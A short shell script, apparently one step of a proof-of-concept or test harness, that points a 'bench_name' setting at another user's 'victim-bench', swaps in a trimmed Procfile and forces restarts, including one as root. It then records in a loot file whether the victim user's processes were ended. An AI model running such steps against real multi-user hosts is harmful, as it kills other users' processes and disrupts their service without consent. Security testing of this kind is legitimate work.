# First step: `bench_name` names another user's bench, whose processes a restart would end.
. "$(dirname "$0")/lib.sh"
before=$(pgrep -U victim | sort)
settings bench_name '"victim-bench"'
grep -E '^(web|redis)' "$BENCH/Procfile" >"$HOME/attack.Procfile"
cp "$HOME/attack.Procfile" "$BENCH/Procfile"
restart
root restart --now -C "$BENCH"
[ -n "$before" ] && [ "$before" = "$(pgrep -U victim | sort)" ] || echo 1002 >>"$LOOT"
